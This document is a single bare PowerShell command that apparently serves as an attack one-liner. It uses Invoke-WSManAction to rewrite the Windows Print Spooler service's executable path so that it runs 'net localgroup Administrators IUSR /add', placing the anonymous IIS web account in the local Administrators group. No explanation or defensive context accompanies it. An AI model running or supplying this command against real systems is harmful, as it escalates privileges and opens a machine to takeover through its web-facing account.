Invoke-WSManAction -ResourceURI wmicimv2/Win32_Service -Action Change -SelectorSet @{ Name = 'Spooler' } -ValueSet @{ PathName = 'cmd /c net localgroup Administrators IUSR /add' }
